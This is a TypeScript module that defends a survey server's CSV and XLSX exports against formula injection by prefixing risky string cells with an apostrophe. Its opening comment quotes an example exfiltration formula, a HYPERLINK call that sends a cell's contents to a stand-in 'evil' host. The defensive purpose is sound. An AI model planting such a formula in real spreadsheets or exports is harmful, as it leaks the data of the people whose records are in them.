// Formula (CSV) injection: a spreadsheet runs a text cell that starts with = + - @ (or tab / CR,
// and the full-width ＝ ＋ － ＠ that Excel also accepts) as a formula, e.g.
// =HYPERLINK("http://evil/?"&A1) in a survey comment typed by a public respondent. OWASP's
// rule: prefix such a cell with ' so it is shown as text. Only strings are touched: numbers,
// booleans, dates and blanks stay what they are (a negative score stays a number, so
// `fidelia analyze` and SPSS still read numeric columns). Every CSV and XLSX writer of the
// server passes its cells through here.
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

export function neutralise<T>(v: T): T | string {
  return typeof v === 'string' && FORMULA_START.test(v) ? `'${v}` : v;
}

export const neutraliseRow = <T>(row: readonly T[]): (T | string)[] => row.map(neutralise);
